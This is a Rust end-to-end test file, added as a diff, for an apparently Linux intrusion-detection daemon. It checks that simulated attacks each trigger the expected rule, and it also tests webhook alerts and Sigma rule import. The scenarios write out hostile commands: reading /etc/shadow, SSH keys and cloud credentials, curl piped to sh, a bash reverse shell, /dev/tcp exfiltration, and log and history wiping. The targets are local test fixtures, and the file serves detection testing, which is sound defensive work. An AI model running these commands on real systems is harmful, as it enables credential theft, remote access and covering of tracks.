@@ -1,0 +1,486 @@
+//! Detections on real scenarios: each attack runs in a login session of its own on the real
+//! kernel, and the daemon must raise the built-in rule for it (with its ATT&CK technique) and
+//! score the session; a benign administration session raises nothing. Alerts reach a real HTTP
+//! receiver signed, retried and de-duplicated.
+
+use std::{
+    io::{Read, Write},
+    net::TcpListener,
+    path::Path,
+    process::{Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use serde_json::Value;
+use vigil_e2e::{ensure_user, free_port, of_type, python, require_root, vigil_bin, Daemon, USER};
+
+const HELPER: &str = env!("CARGO_BIN_EXE_vigil-test-helper");
+
+/// Runs `script` with bash in a new login session of `loginuid`, HOME in `home`.
+fn session(loginuid: u32, home: &Path, script: &str) {
+    let status = Command::new(HELPER)
+        .args([
+            "login",
+            &loginuid.to_string(),
+            "--",
+            "/bin/bash",
+            "-c",
+            script,
+        ])
+        .env("HOME", home)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(status.success() || status.code().is_some(), "{script}");
+}
+
+/// A tiny HTTP server: every request gets `body`.
+fn serve(body: &'static str) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut conn in listener.incoming().flatten() {
+            let mut buf = [0u8; 4096];
+            let _ = conn.read(&mut buf);
+            let _ = write!(
+                conn,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    port
+}
+
+/// A listener that, like an attacker's, sends commands to whatever connects.
+fn attacker(commands: &'static str, hold: Duration) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        if let Ok((mut conn, _)) = listener.accept() {
+            std::thread::sleep(hold);
+            let _ = conn.write_all(commands.as_bytes());
+            let mut sink = Vec::new();
+            let _ = conn.read_to_end(&mut sink);
+        }
+    });
+    port
+}
+
+/// A non-loopback address of this host (where "outbound" connections can go in a test).
+fn outbound_address() -> String {
+    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+    s.connect("192.0.2.1:9").unwrap();
+    s.local_addr().unwrap().ip().to_string()
+}
+
+struct Scenario {
+    name: &'static str,
+    script: String,
+    rule: &'static str,
+    technique: &'static str,
+}
+
+#[test]
+fn every_builtin_scenario_is_detected_and_benign_work_is_not() {
+    require_root();
+    ensure_user();
+    let dir = tempfile::tempdir().unwrap();
+    let spool = dir.path().join("spool");
+    let home = dir.path().join("home");
+    std::fs::create_dir_all(&home).unwrap();
+    // Fixtures outside the sessions.
+    let token_dir = Path::new("/run/secrets/kubernetes.io/serviceaccount");
+    let made_token = !token_dir.join("token").exists();
+    if made_token {
+        std::fs::create_dir_all(token_dir).unwrap();
+        std::fs::write(token_dir.join("token"), "eyJhbGciOi.test.token").unwrap();
+    }
+    let suid = dir.path().join("suid-tool");
+    std::fs::copy("/usr/bin/id", &suid).unwrap();
+    Command::new("chmod")
+        .arg("4755")
+        .arg(&suid)
+        .status()
+        .unwrap();
+    Command::new("chmod")
+        .arg("755")
+        .arg(dir.path())
+        .status()
+        .unwrap();
+    let web = serve("#!/bin/sh\necho downloaded-and-run\n");
+    let sink = TcpListener::bind("0.0.0.0:0").unwrap();
+    let sink_port = sink.local_addr().unwrap().port();
+    std::thread::spawn(move || for _c in sink.incoming() {});
+    let shell_port = attacker("exit\n", Duration::from_millis(1500));
+    let out_ip = outbound_address();
+
+    let scenarios = vec![
+        Scenario { name: "shadow", script: "cat /etc/shadow > /dev/null".into(), rule: "credential-store-read", technique: "T1003.008" },
+        Scenario { name: "ssh key", script: "mkdir -p ~/.ssh && echo KEY > ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519 > /dev/null".into(), rule: "ssh-private-key-read", technique: "T1552.004" },
+        Scenario { name: "cloud", script: "mkdir -p ~/.aws && echo k > ~/.aws/credentials && cat ~/.aws/credentials > /dev/null".into(), rule: "cloud-credentials-read", technique: "T1552.001" },
+        Scenario { name: "sa token", script: "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null".into(), rule: "service-account-token-read", technique: "T1528" },
+        Scenario { name: "exfil", script: format!("head -c 60000000 /dev/zero > /dev/null; exec 3<>/dev/tcp/{out_ip}/{sink_port}; sleep 0.2"), rule: "bulk-read-then-outbound", technique: "T1041" },
+        Scenario { name: "sudo", script: format!("su {USER} -s /bin/sh -c 'sudo -n /bin/true'"), rule: "sudo-to-root", technique: "T1548.003" },
+        Scenario { name: "setuid", script: format!("su {USER} -s /bin/sh -c '{}'", suid.display()), rule: "unexpected-setuid-root", technique: "T1548.001" },
+        Scenario { name: "crontab", script: format!("crontab -u {USER} /dev/null"), rule: "crontab-modified", technique: "T1053.003" },
+        Scenario { name: "systemd", script: "touch /etc/systemd/system/vigil-e2e-test.service; rm -f /etc/systemd/system/vigil-e2e-test.service".into(), rule: "systemd-unit-written", technique: "T1543.002" },
+        Scenario { name: "authorized_keys", script: "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys".into(), rule: "authorized-keys-modified", technique: "T1098.004" },
+        Scenario { name: "bashrc", script: "echo 'alias ls=evil' >> ~/.bashrc".into(), rule: "shell-startup-modified", technique: "T1546.004" },
+        Scenario { name: "history", script: "echo old > ~/.bash_history; rm -f ~/.bash_history".into(), rule: "shell-history-cleared", technique: "T1070.003" },
+        Scenario { name: "logs", script: "echo x >> /var/log/vigil-e2e-test.log; truncate -s 0 /var/log/vigil-e2e-test.log; rm -f /var/log/vigil-e2e-test.log".into(), rule: "logs-tampered", technique: "T1070.002" },
+        Scenario { name: "stop monitor", script: "pkill -0 -x vigil; true".into(), rule: "monitoring-stopped", technique: "T1562.001" },
+        Scenario { name: "curl | sh", script: format!("curl -s http://127.0.0.1:{web}/x.sh | sh > /dev/null"), rule: "download-piped-to-shell", technique: "T1059.004" },
+        Scenario { name: "download, run", script: format!("curl -s -o ~/x.sh http://127.0.0.1:{web}/x.sh && chmod +x ~/x.sh && ~/x.sh > /dev/null"), rule: "downloaded-file-executed", technique: "T1105" },
+        Scenario { name: "reverse shell", script: format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1'"), rule: "reverse-shell", technique: "T1059.004" },
+        Scenario { name: "process memory", script: "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; true".into(), rule: "process-memory-access", technique: "T1003.007" },
+    ];
+    let benign = "ls -la /etc > /dev/null; df -h > /dev/null; ps aux > /dev/null; uptime; id; \
+                  cat /etc/hostname /etc/os-release > /dev/null; grep -c root /etc/passwd; \
+                  du -sh /usr/share/doc > /dev/null 2>&1; tail -n 5 /var/log/dpkg.log > /dev/null 2>&1; \
+                  find /etc -maxdepth 1 -name '*.conf' > /dev/null; ip addr > /dev/null 2>&1; true";
+
+    let daemon = Daemon::start_with_spool(Some(&spool), "").expect("daemon starts");
+    let base = 30_000 + (std::process::id() % 1000) * 40;
+    for (i, s) in scenarios.iter().enumerate() {
+        session(base + i as u32, &home, &s.script);
+    }
+    let benign_uid = base + 39;
+    session(benign_uid, &home, benign);
+    std::thread::sleep(Duration::from_millis(500));
+    let events = daemon.stop().expect("daemon stops");
+    if made_token {
+        let _ = std::fs::remove_dir_all("/run/secrets");
+    }
+
+    let alerts = of_type(&events, "alert");
+    let mut missed = Vec::new();
+    for (i, s) in scenarios.iter().enumerate() {
+        let uid = base + i as u32;
+        let hit = alerts
+            .iter()
+            .find(|a| a["process"]["loginuid"] == uid && a["rule"] == s.rule);
+        match hit {
+            Some(a) => {
+                assert_eq!(a["technique"], s.technique, "{}", s.name);
+                assert!(a["session_risk"].as_u64().unwrap() > 0);
+                assert!(!a["evidence"].as_str().unwrap().is_empty());
+                assert!(a["reasons"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .any(|r| r.as_str().unwrap().contains(s.technique)));
+            }
+            None => missed.push(format!(
+                "{} ({}): alerts in its session: {:?}",
+                s.name,
+                s.rule,
+                alerts
+                    .iter()
+                    .filter(|a| a["process"]["loginuid"] == uid)
+                    .map(|a| a["rule"].as_str().unwrap_or(""))
+                    .collect::<Vec<_>>()
+            )),
+        }
+    }
+    assert!(
+        missed.is_empty(),
+        "scenarios not detected:\n{}",
+        missed.join("\n")
+    );
+    let benign_alerts: Vec<&&Value> = alerts
+        .iter()
+        .filter(|a| a["process"]["loginuid"] == benign_uid)
+        .collect();
+    assert!(
+        benign_alerts.is_empty(),
+        "benign session raised {benign_alerts:?}"
+    );
+
+    // Sessions by risk.
+    let out = Command::new(vigil_bin())
+        .args(["sessions", "--json", "--min-risk", "40", "--spool"])
+        .arg(&spool)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let risky: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    let uids: Vec<u64> = risky
+        .iter()
+        .filter_map(|s| s["loginuid"].as_u64())
+        .collect();
+    assert!(
+        uids.contains(&(base as u64)),
+        "shadow session (risk 40) listed: {uids:?}"
+    );
+    assert!(
+        !uids.contains(&((base + 5) as u64)),
+        "sudo session (risk 5) not listed: {:?}",
+        risky
+            .iter()
+            .find(|s| s["loginuid"] == base + 5)
+            .map(|s| &s["risk_reasons"])
+    );
+    assert!(!uids.contains(&(benign_uid as u64)));
+    assert!(risky.iter().all(|s| s["risk"].as_u64().unwrap() >= 40));
+}
+
+#[test]
+fn alerts_reach_a_webhook_signed_retried_and_once() {
+    require_root();
+    let dir = tempfile::tempdir().unwrap();
+    let port = free_port();
+    let log = dir.path().join("received.jsonl");
+    let ready = dir.path().join("receiver.ready");
+    let secret = "test-webhook-secret";
+    let mut receiver = Command::new(python())
+        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("webhook_receiver.py"))
+        .args([
+            "--port",
+            &port.to_string(),
+            "--secret",
+            secret,
+            "--fail-first",
+            "1",
+        ])
+        .arg("--log")
+        .arg(&log)
+        .arg("--ready-file")
+        .arg(&ready)
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !ready.exists() {
+        assert!(Instant::now() < deadline, "receiver not ready");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let secret_file = dir.path().join("secret");
+    std::fs::write(&secret_file, format!("{secret}\n")).unwrap();
+    let daemon = Daemon::start(&format!(
+        "alerts:\n  webhooks:\n    - url: http://127.0.0.1:{port}/hook\n      secret_file: {}\n      min_severity: high\n",
+        secret_file.display()
+    ))
+    .expect("daemon starts");
+    let loginuid = 33_000 + std::process::id() % 1000;
+    // The same detection twice in one session (one delivery), and a low-severity one (none).
+    session(
+        loginuid,
+        dir.path(),
+        "cat /etc/shadow > /dev/null; cat /etc/shadow > /dev/null",
+    );
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let received = loop {
+        let text = std::fs::read_to_string(&log).unwrap_or_default();
+        let lines: Vec<Value> = text
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect();
+        if lines.iter().any(|l| l["answered"] == 200) {
+            break lines;
+        }
+        assert!(Instant::now() < deadline, "no delivery: {text}");
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    std::thread::sleep(Duration::from_millis(1500));
+    let events = daemon.stop().expect("daemon stops");
+    let _ = receiver.kill();
+    let _ = receiver.wait();
+    let text = std::fs::read_to_string(&log).unwrap();
+    let all: Vec<Value> = text
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    assert!(all.len() >= received.len());
+    // First attempt refused, second accepted, and no more: the repeat was de-duplicated.
+    assert_eq!(all.len(), 2, "{all:#?}");
+    assert_eq!(all[0]["answered"], 500);
+    assert_eq!(all[1]["answered"], 200);
+    assert_eq!(all[1]["headers"]["X-Vigil-Attempt"], "2");
+    assert!(all.iter().all(|l| l["signature_valid"] == true), "{all:#?}");
+    let body = &all[1]["body"];
+    assert_eq!(body["type"], "alert");
+    assert_eq!(body["rule"], "credential-store-read");
+    assert_eq!(all[1]["headers"]["X-Vigil-Delivery"], body["alert_id"]);
+    // Both hits are alerts in the stream all the same.
+    let ours = of_type(&events, "alert")
+        .into_iter()
+        .filter(|a| a["process"]["loginuid"] == loginuid && a["rule"] == "credential-store-read")
+        .count();
+    assert_eq!(ours, 2);
+}
+
+/// Waits until `events_file` holds an alert of `rule` for `loginuid`.
+fn wait_alert(events_file: &Path, loginuid: u32, rule: &str) -> bool {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while Instant::now() < deadline {
+        // The daemon may be writing the last line: take whole lines only.
+        let text = std::fs::read_to_string(events_file).unwrap_or_default();
+        let events: Vec<Value> = text
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect();
+        if of_type(&events, "alert")
+            .iter()
+            .any(|a| a["process"]["loginuid"] == loginuid && a["rule"] == rule)
+        {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    false
+}
+
+const SIGMA_WGET_TMP: &str = r#"
+title: Wget Output To Temporary Directory
+id: 0f3b2a61-7d5e-4c3a-9f1e-2b7c8d9e0a11
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection_img:
+        Image|endswith: '/sed'
+    selection_cmd:
+        CommandLine|contains: 'vigil-sigma-marker'
+    condition: all of selection_*
+tags:
+    - attack.t1105
+level: high
+---
+title: Auditd Config Change
+logsource:
+    product: linux
+    service: auditd
+detection:
+    selection:
+        type: CONFIG_CHANGE
+    condition: selection
+tags:
+    - attack.t1562.012
+level: low
+"#;
+
+#[test]
+fn sigma_rules_import_and_rules_files_reload_without_restart() {
+    require_root();
+    let dir = tempfile::tempdir().unwrap();
+    let sigma_dir = dir.path().join("sigma");
+    std::fs::create_dir_all(&sigma_dir).unwrap();
+    std::fs::write(sigma_dir.join("proc.yml"), SIGMA_WGET_TMP).unwrap();
+    let imported = dir.path().join("imported.yaml");
+    let report = dir.path().join("report.json");
+    let out = Command::new(vigil_bin())
+        .args(["rules", "import-sigma"])
+        .arg(&sigma_dir)
+        .arg("-o")
+        .arg(&imported)
+        .arg("--report")
+        .arg(&report)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("imported 1 Sigma rules, 1 not importable"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("service `auditd`"), "{stderr}");
+    let rep: Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
+    assert_eq!(
+        rep["imported"][0]["id"],
+        "sigma-wget-output-to-temporary-directory"
+    );
+    assert_eq!(rep["skipped"][0]["title"], "Auditd Config Change");
+
+    // A rules file of our own next to the import; it will change while the daemon runs.
+    let mine = dir.path().join("mine.yaml");
+    let rule = |id: &str, marker: &str| {
+        format!(
+            "  - id: {id}\n    title: marker {marker}\n    technique: T1059.004\n    severity: medium\n    risk: 10\n    when: type == \"exec\" and argv contains \"{marker}\"\n"
+        )
+    };
+    std::fs::write(
+        &mine,
+        format!("rules:\n{}", rule("first-marker", "vigil-first")),
+    )
+    .unwrap();
+    let check = Command::new(vigil_bin())
+        .args(["rules", "check"])
+        .arg(&mine)
+        .arg(&imported)
+        .output()
+        .unwrap();
+    assert!(
+        check.status.success(),
+        "{}",
+        String::from_utf8_lossy(&check.stderr)
+    );
+
+    let daemon = Daemon::start(&format!(
+        "detection:\n  rules_files: [{}, {}]\n",
+        imported.display(),
+        mine.display()
+    ))
+    .expect("daemon starts");
+    let events_file = daemon.events_path.clone();
+    let uid = 34_000 + std::process::id() % 1000;
+    session(
+        uid,
+        dir.path(),
+        "echo x | sed s/vigil-sigma-marker// > /dev/null; /bin/echo vigil-first > /dev/null",
+    );
+    assert!(wait_alert(
+        &events_file,
+        uid,
+        "sigma-wget-output-to-temporary-directory"
+    ));
+    assert!(wait_alert(&events_file, uid, "first-marker"));
+
+    // A new rule appears without a restart.
+    std::thread::sleep(Duration::from_millis(1100));
+    std::fs::write(
+        &mine,
+        format!(
+            "rules:\n{}{}",
+            rule("first-marker", "vigil-first"),
+            rule("second-marker", "vigil-second")
+        ),
+    )
+    .unwrap();
+    std::thread::sleep(Duration::from_millis(1500));
+    session(uid + 1, dir.path(), "/bin/echo vigil-second > /dev/null");
+    assert!(
+        wait_alert(&events_file, uid + 1, "second-marker"),
+        "reloaded rule fired"
+    );
+
+    // A broken version is refused with its line, and the rules in force stay.
+    std::thread::sleep(Duration::from_millis(1100));
+    std::fs::write(
+        &mine,
+        "rules:\n  - id: broken\n    title: b\n    technique: T1059\n    severity: high\n    risk: 5\n    when: type == \"exec\" and argv contans \"x\"\n",
+    )
+    .unwrap();
+    let check = Command::new(vigil_bin())
+        .args(["rules", "check"])
+        .arg(&mine)
+        .output()
+        .unwrap();
+    assert_eq!(check.status.code(), Some(2));
+    let msg = String::from_utf8_lossy(&check.stderr);
+    assert!(
+        msg.contains(&format!("{}:2: rule `broken`", mine.display())),
+        "{msg}"
+    );
+    std::thread::sleep(Duration::from_millis(1500));
+    session(uid + 2, dir.path(), "/bin/echo vigil-second > /dev/null");
+    assert!(
+        wait_alert(&events_file, uid + 2, "second-marker"),
+        "rules in force kept"
+    );
+    let (_, log) = daemon.stop_with_log().expect("daemon stops");
+    assert!(log.contains("rules not reloaded"), "{log}");
+    let metrics_hint = log.contains("mine.yaml:2");
+    assert!(metrics_hint, "reload error names the file and line: {log}");
+}
